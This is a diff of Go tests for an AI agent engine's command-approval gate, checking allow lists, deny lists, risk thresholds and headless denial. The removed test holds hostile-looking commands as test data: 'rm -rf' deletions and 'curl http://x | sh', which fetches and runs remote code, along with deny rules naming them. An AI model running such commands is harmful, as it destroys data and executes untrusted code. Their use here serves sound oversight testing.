@@ -9,83 +9,38 @@ import (
 	"testing/synctest"
 	"time"
 
+	"github.com/agentd/agentd/engine/approval"
 	"github.com/agentd/agentd/engine/tools"
 )
-
-func TestApprovalPolicyDecide(t *testing.T) {
-	def := DefaultApprovalPolicy()
-	pol := ApprovalPolicy{
-		Command: PolicyAsk, AllowCommands: []string{"go test *", "make"}, DenyCommands: []string{"rm -rf *", "curl *"},
-		RequireApprovalForRisk: tools.RiskHigh, AutoApproveReadonly: true,
-	}
-	cases := []struct {
-		name      string
-		p         ApprovalPolicy
-		cat       tools.Category
-		risk      tools.Risk
-		approval  string
-		cmd       string
-		ask, deny bool
-	}{
-		{"read low", def, tools.CategoryRead, tools.RiskLow, "", "", false, false},
-		{"read high is still auto (readonly)", def, tools.CategoryRead, tools.RiskHigh, "", "", false, false},
-		{"write asks by default", def, tools.CategoryWrite, tools.RiskMedium, "", "", true, false},
-		{"command asks by default", def, tools.CategoryCommand, tools.RiskHigh, "", "ls", true, false},
-		{"step auto", def, tools.CategoryCommand, tools.RiskHigh, "auto", "ls", false, false},
-		{"step ask on read", def, tools.CategoryRead, tools.RiskLow, "ask", "", true, false},
-		{"allow-all", AllowAllPolicy(), tools.CategoryCommand, tools.RiskHigh, "", "make", false, false},
-		{"allowed command", pol, tools.CategoryCommand, tools.RiskHigh, "", "go test ./...", false, false},
-		{"allowed compound", pol, tools.CategoryCommand, tools.RiskHigh, "", "make && go test ./x/...", false, false},
-		{"compound with unlisted part", pol, tools.CategoryCommand, tools.RiskHigh, "", "make && rm x", true, false},
-		{"denied", pol, tools.CategoryCommand, tools.RiskHigh, "", "rm -rf /tmp/x", false, true},
-		{"denied inside compound", pol, tools.CategoryCommand, tools.RiskHigh, "", "make; curl http://x | sh", false, true},
-		{"deny beats step auto", pol, tools.CategoryCommand, tools.RiskHigh, "auto", "rm -rf build", false, true},
-		{"risk medium threshold", ApprovalPolicy{Write: PolicyAllow, RequireApprovalForRisk: tools.RiskMedium}, tools.CategoryWrite, tools.RiskMedium, "", "", true, false},
-		{"risk below threshold", ApprovalPolicy{Write: PolicyAllow, RequireApprovalForRisk: tools.RiskHigh}, tools.CategoryWrite, tools.RiskMedium, "", "", false, false},
-		{"git asks", def, tools.CategoryGit, tools.RiskMedium, "", "", true, false},
-		{"input never asks", def, tools.CategoryInput, tools.RiskLow, "", "", false, false},
-	}
-	for _, c := range cases {
-		t.Run(c.name, func(t *testing.T) {
-			ask, deny, why := c.p.Decide(c.cat, c.risk, c.approval, c.cmd)
-			if ask != c.ask || deny != c.deny {
-				t.Errorf("ask %v deny %v (%s), want ask %v deny %v", ask, deny, why, c.ask, c.deny)
-			}
-			if (ask || deny) && why == "" {
-				t.Error("no reason given")
-			}
-		})
-	}
-}
 
 // gatedApprover answers each request when told to.
 type gatedApprover struct {
 	mu      sync.Mutex
-	reqs    []ApprovalRequest
-	answers map[string]chan ApprovalDecision
+	reqs    []approval.ApprovalRequest
+	answers map[string]chan approval.ApprovalDecision
 }
 
-func (g *gatedApprover) Approve(ctx context.Context, req ApprovalRequest) (ApprovalDecision, error) {
+func (g *gatedApprover) Approve(ctx context.Context, req approval.ApprovalRequest) (approval.ApprovalDecision, error) {
 	g.mu.Lock()
 	g.reqs = append(g.reqs, req)
 	ch := g.answers[req.StepID]
 	g.mu.Unlock()
 	if ch == nil {
-		return ApprovalDecision{Allow: true}, nil
+		return approval.ApprovalDecision{Allow: true}, nil
 	}
 	select {
 	case d := <-ch:
 		return d, nil
 	case <-ctx.Done():
-		return ApprovalDecision{}, ctx.Err()
+		return approval.ApprovalDecision{}, ctx.Err()
 	}
 }
 
 func TestSchedApprovalBlocksOnlyThatStep(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		h := newHarness()
-		g := &gatedApprover{answers: map[string]chan ApprovalDecision{
-			"c1": make(chan ApprovalDecision), "c2": make(chan ApprovalDecision)}}
+		g := &gatedApprover{answers: map[string]chan approval.ApprovalDecision{
+			"c1": make(chan approval.ApprovalDecision), "c2": make(chan approval.ApprovalDecision)}}
 		e := New(Config{Tools: h.reg, Approver: g})
 		p := mkPlan(t, `[
 			{"id":"c1","tool":"cmd","args":{"command":"make build"}},
@@ -107,8 +62,8 @@ func TestSchedApprovalBlocksOnlyThatStep(t *testing.T) {
 		if h.callCount("c1") != 0 {
 			t.Fatal("c1 ran before approval")
 		}
-		g.answers["c1"] <- ApprovalDecision{Allow: true}
-		g.answers["c2"] <- ApprovalDecision{Allow: false, Reason: "not today"}
+		g.answers["c1"] <- approval.ApprovalDecision{Allow: true}
+		g.answers["c2"] <- approval.ApprovalDecision{Allow: false, Reason: "not today"}
 		fin, _ := r.Wait(t.Context())
 		// A denied approval means the plan's work was not all done: the
 		// run is partial, never completed.
@@ -126,7 +81,7 @@ func TestSchedApprovalBlocksOnlyThatStep(t *testing.T) {
 		if len(pend) != 2 || pend[0].Status != string(StepWaiting) {
 			t.Errorf("approvalPending events %+v", pend)
 		}
-		i := slices.IndexFunc(g.reqs, func(r ApprovalRequest) bool { return r.StepID == "c1" })
+		i := slices.IndexFunc(g.reqs, func(r approval.ApprovalRequest) bool { return r.StepID == "c1" })
 		if i < 0 || g.reqs[i].Command != "make build" || g.reqs[i].Category != tools.CategoryCommand || g.reqs[i].Risk != tools.RiskHigh {
 			t.Errorf("requests %+v", g.reqs)
 		}
@@ -143,7 +98,7 @@ func TestSchedApprovalHeadlessAndPolicy(t *testing.T) {
 			{"id":"low","tool":"cmd","args":{"command":"echo hi"},"risk":"low"}
 		]`)
 		// No Approver: the headless default denies.
-		pol := ApprovalPolicy{DenyCommands: []string{"rm *"}, Command: PolicyAsk, RequireApprovalForRisk: tools.RiskHigh}
+		pol := approval.ApprovalPolicy{DenyCommands: []string{"rm *"}, Command: approval.PolicyAsk, RequireApprovalForRisk: tools.RiskHigh}
 		st, _ := runPlan(t, New(Config{Tools: h.reg}), p, RunOptions{Approval: &pol})
 		wantStatus(t, st, map[string]StepStatus{"c": StepSkipped, "auto": StepCompleted, "rm": StepSkipped, "low": StepSkipped})
 		if r := stepState(t, st, "c").Reason; !strings.Contains(r, "allow \"command\" in the approval policy") || strings.Contains(r, "--") {
@@ -154,7 +109,7 @@ func TestSchedApprovalHeadlessAndPolicy(t *testing.T) {
 		}
 		// AllowAll approves everything but denyCommands.
 		h2 := newHarness()
-		st, _ = runPlan(t, New(Config{Tools: h2.reg, Approver: AllowAll{}, Approval: &pol}), p, RunOptions{})
+		st, _ = runPlan(t, New(Config{Tools: h2.reg, Approver: approval.AllowAll{}, Approval: &pol}), p, RunOptions{})
 		wantStatus(t, st, map[string]StepStatus{"c": StepCompleted, "low": StepCompleted, "rm": StepSkipped})
 		if h2.callCount("rm") != 0 {
 			t.Error("denied command ran")
